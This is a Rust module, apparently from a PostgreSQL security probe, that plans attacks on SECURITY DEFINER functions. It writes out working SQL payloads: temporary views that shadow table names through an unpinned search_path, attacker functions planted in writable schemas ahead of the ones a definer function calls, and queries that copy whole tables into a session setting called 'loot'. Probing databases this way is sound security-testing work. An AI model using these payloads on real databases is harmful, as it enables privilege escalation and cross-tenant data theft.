//! Attacks by what is put in the way of a definer's function: a view of the attacker's, which the function reads in place of the table
//! whose name it has, and which calls a function of the attacker's as the definer.

use rowhouse_catalog::{Function, Privilege, Relation, quote_ident};

use super::surface::Surface;
use super::{Attack, Persona, functions, past, relations, tables};
use crate::context::Context;
use crate::model::text_of;
use crate::probe::fill::{self, Filler};
use crate::probe::tenants::{self, Tenant};
use crate::probe::verdict::Command;
use crate::seal::literal;

/// The setting in which the loot is kept.
const LOOT: &str = "rowhouse_probe.loot";
/// How many relations are read by what it says.
const READ: usize = 4;
/// How many calls of one function are tried.
const CALLS: usize = 4;

pub(super) fn plan<'a>(
    context: &Context<'a>,
    filler: &Filler<'a>,
    persona: &Persona<'_>,
    attacks: &mut Vec<Attack>,
) {
    let definers = functions::functions(context, persona).filter(|f| f.security_definer);
    for (function, wanted) in definers.filter_map(|f| Some((f, wanted(context, f)?))) {
        for first in callees(context, persona, function, wanted) {
            for call in functions::calls(context, filler, function)
                .into_iter()
                .take(CALLS)
            {
                attacks.push(Attack {
                    // A function that was called before has its plans.
                    first: format!("DISCARD PLANS; {first}"),
                    ..Attack::new(
                        function.qualified_name(),
                        Command::Call,
                        "a call that calls what the caller put in its way",
                        format!("{call}; SELECT current_setting('{LOOT}', true)"),
                    )
                });
            }
        }
    }
    if !persona.access.database().has(Privilege::Temporary) {
        return;
    }
    let open = functions::functions(context, persona).filter(|function| is_open(function));
    for (function, wanted) in open.filter_map(|f| Some((f, wanted(context, f)?))) {
        for table in relations(context).filter(|table| names(text_of(function), &table.name)) {
            for call in functions::calls(context, filler, function)
                .into_iter()
                .take(CALLS)
            {
                attacks.push(Attack {
                    first: in_the_way(filler, persona, table, wanted, filler.own()),
                    ..Attack::new(
                        function.qualified_name(),
                        Command::Call,
                        "a call that reads what the caller put in its way",
                        format!("{call}; SELECT current_setting('{LOOT}', true)"),
                    )
                });
            }
            // What it says then may be what policies go by.
            for reader in past::filtered(context, persona)
                .filter(|reader| past::asks(context, reader, function))
                .take(READ)
            {
                attacks.push(Attack {
                    first: in_the_way(filler, persona, table, wanted, filler.other()),
                    ..Attack::new(
                        function.qualified_name(),
                        Command::Call,
                        "a SELECT by what the caller put in the way of a function",
                        tables::read(persona, reader).sql,
                    )
                });
            }
        }
    }
}

/// A table that a function's owner may read, at best past its policies.
fn wanted<'a>(context: &Context<'a>, function: &Function) -> Option<&'a Relation> {
    let owner = context.catalog.as_role(function.owner);
    let tables = context.tenant_tables().map(|(table, _)| table);
    let readable = tables.filter(|table| {
        table.is_table()
            && !table.is_partition
            && context.model.root != Some(table.oid)
            && owner.relation(table).has(Privilege::Select)
    });
    readable.min_by_key(|table| owner.is_filtered(table))
}

/// Whether it works as its owner, and temporary objects come first in it.
fn is_open(function: &Function) -> bool {
    let path = function.settings.get("search_path");
    function.security_definer && path.is_none_or(|path| !path.contains("pg_temp"))
}

/// Whether a text has a name without a schema in front of it.
fn names(text: &str, name: &str) -> bool {
    let mut rest = text;
    let is_part = |letter: Option<char>| letter.is_some_and(|c| c.is_alphanumeric() || c == '_');
    while let Some(at) = rest.find(name) {
        let before = rest[..at].trim_end_matches('"').chars().next_back();
        let after = rest[at + name.len()..].chars().next();
        if before != Some('.') && !is_part(before) && !is_part(after) {
            return true;
        }
        rest = &rest[at + name.len()..];
    }
    false
}

/// A view with a table's name and a row of one's own, but for ids, which are somebody's; it has a function collect what is wanted.
fn in_the_way<'a>(
    filler: &Filler<'a>,
    persona: &Persona<'_>,
    table: &'a Relation,
    wanted: &Relation,
    ids_of: &Tenant,
) -> String {
    let surface = Surface::new(filler, table);
    let kind = tenants::kind(filler.model);
    let columns = table.columns.iter().map(|column| {
        let is_login = filler
            .words
            .logins
            .contains(&column.name.to_ascii_lowercase());
        let is_id = tenants::kind_of(filler.model.catalog, column.type_oid) == kind
            && !crate::keys::is_secret(&column.name);
        let whose = if is_id { ids_of } else { filler.own() };
        let value = if is_login {
            Some(persona.login.name.clone())
        } else {
            surface.value(whose, 0, column)
        };
        let value = fill::sql(value.as_deref());
        format!(
            "{value}::{} AS {}",
            column.formatted_type,
            quote_ident(&column.name)
        )
    });
    let columns: Vec<String> = columns.collect();
    let collect = literal(&collect(wanted));
    let name = quote_ident(&table.name);
    format!(
        "CREATE FUNCTION pg_temp.rowhouse_loot() RETURNS text LANGUAGE sql AS {collect}; CREATE TEMP VIEW {name} AS SELECT {} FROM (SELECT pg_temp.rowhouse_loot() OFFSET 0) loot; GRANT SELECT ON pg_temp.{name} TO PUBLIC",
        columns.join(", ")
    )
}

/// SQL that keeps all it sees of a table.
fn collect(wanted: &Relation) -> String {
    format!(
        "SELECT set_config('{LOOT}', string_agg(x::text, ' ' ORDER BY x::text), true) FROM {} x",
        wanted.qualified_name()
    )
}

/// Functions of the attacker's in a schema that a definer's function looks into before that of the function it calls by name.
fn callees(
    context: &Context<'_>,
    persona: &Persona<'_>,
    function: &Function,
    wanted: &Relation,
) -> Vec<String> {
    let path = function.settings.get("search_path").map(String::as_str);
    let path: Vec<&str> = path
        .unwrap_or("public")
        .split(',')
        .map(|name| name.trim().trim_matches('"'))
        .collect();
    let creates = |name: &&&str| {
        let may = persona.access.schema(name);
        may.is_some_and(|may| may.has(Privilege::Create) && may.has(Privilege::Usage))
    };
    let Some(open) = path.iter().find(creates) else {
        return Vec::new();
    };
    let called = context.catalog.functions.iter().filter(|called| {
        let place = path.iter().position(|name| *name == called.schema);
        let open = path.iter().position(|name| name == open);
        !called.oid.is_builtin()
            && called.oid != function.oid
            && place > open
            && names(text_of(function), &called.name)
    });
    let made = called.filter_map(|called| {
        let body = literal(&format!(
            "SELECT NULL::{} FROM ({} OFFSET 0) AS loot",
            called.result.as_deref().filter(|_| !called.set_returning)?,
            collect(wanted)
        ));
        Some(format!(
            "CREATE FUNCTION {}({}) RETURNS {} LANGUAGE sql AS {body}",
            rowhouse_catalog::qualified(open, &called.name),
            called.input_types.join(", "),
            called.result.as_deref()?
        ))
    });
    made.collect()
}
